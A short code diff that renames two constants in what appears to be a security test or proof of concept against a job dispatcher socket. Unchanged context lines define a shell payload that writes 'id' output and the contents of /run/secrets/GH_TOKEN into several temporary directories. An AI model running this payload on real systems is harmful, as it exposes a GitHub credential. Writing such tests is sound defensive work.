@@ -13,5 +13,5 @@ export const SOCKET = "/run/dispatcher/github.sock";
 export const PAYLOAD =
   "for each in /tmp /var/tmp /dev/shm /data /run; do id >$each/pwned; cat /run/secrets/GH_TOKEN >>$each/pwned; done";
 export const SCRIPT = `printf '#!/bin/sh\\n%s\\n' '${PAYLOAD}'`;
-export const json = "content-type: application/json";
-export const job = `{"playbook":"fix-bug","repository":"acme/shop","spec":"pwned","requestedBy":"ada"}`;
+export const JSON_TYPE = "content-type: application/json";
+export const JOB = `{"playbook":"fix-bug","repository":"acme/shop","spec":"pwned","requestedBy":"ada"}`;
